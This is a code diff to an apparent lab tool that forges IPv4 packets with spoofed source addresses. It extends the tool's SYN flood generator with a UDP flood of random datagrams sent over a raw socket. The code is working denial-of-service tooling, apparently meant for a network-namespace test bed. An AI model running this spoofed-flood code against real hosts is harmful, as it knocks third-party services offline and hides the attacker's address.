@@ -1,7 +1,7 @@
-"""SYN packets with forged sources. Run inside a namespace: `python -m lab.forger PLAN`.
+"""Packets with forged sources. Run inside a namespace: `python -m lab.forger PLAN`.
 
 PLAN is a JSON file: sources, target, and the packets and seconds to spend on them. Packets are
-made by hand and sent over a raw socket: raw(7), RFC 791, RFC 9293.
+made by hand and sent over a raw socket: raw(7), RFC 791, RFC 768, RFC 9293.
 """
 
 from __future__ import annotations
@@ -22,6 +22,7 @@ if TYPE_CHECKING:
 
 _IP = struct.Struct("!BBHHHBBH4s4s")
 _TCP = struct.Struct("!HHIIBBHHH")
+_UDP = struct.Struct("!HHHH")
 _SYN = 0x02
 _MSS = struct.pack("!BBH", 2, 4, 1460)
 
@@ -35,6 +36,8 @@ class FloodPlan:
     port: int
     seconds: float
     seed: int
+    udp: bool = False
+    """Datagrams of random contents in place of SYNs."""
 
     def write(self, path: Path) -> Path:
         """Write the plan as JSON and return its path."""
@@ -47,7 +50,8 @@ def packets(plan: FloodPlan) -> list[bytes]:
     rng = random.Random(plan.seed)
     sources = [source for source in plan.sources for _ in range(rng.randint(1, 3))]
     rng.shuffle(sources)
-    return [syn(rng, source, plan.target, plan.port) for source in sources]
+    made = datagram if plan.udp else syn
+    return [made(rng, source, plan.target, plan.port) for source in sources]
 
 
 def syn(rng: random.Random, source: str, target: str, port: int) -> bytes:
@@ -57,9 +61,21 @@ def syn(rng: random.Random, source: str, target: str, port: int) -> bytes:
     bare = _TCP.pack(own_port, port, sequence, 0, 6 << 4, _SYN, 64240, 0, 0) + _MSS
     pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(bare))
     segment = bare[:16] + struct.pack("!H", checksum(pseudo + bare)) + bare[18:]
-    length, identity = _IP.size + len(segment), rng.randrange(1, 2**16)
-    header = _IP.pack(0x45, 0, length, identity, 0, 64, 6, 0, ends[:4], ends[4:])
-    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment
+    return _packet(rng, ends, socket.IPPROTO_TCP, segment)
+
+
+def datagram(rng: random.Random, source: str, target: str, port: int) -> bytes:
+    """Return an IPv4 packet with a datagram of random contents, without a UDP checksum."""
+    ends = IPv4Address(source).packed + IPv4Address(target).packed
+    data = rng.randbytes(rng.randint(16, 600))
+    head = _UDP.pack(rng.randint(1024, 65535), port, _UDP.size + len(data), 0)
+    return _packet(rng, ends, socket.IPPROTO_UDP, head + data)
+
+
+def _packet(rng: random.Random, ends: bytes, protocol: int, content: bytes) -> bytes:
+    length, identity = _IP.size + len(content), rng.randrange(1, 2**16)
+    header = _IP.pack(0x45, 0, length, identity, 0, 64, protocol, 0, ends[:4], ends[4:])
+    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + content
 
 
 def checksum(data: bytes) -> int:
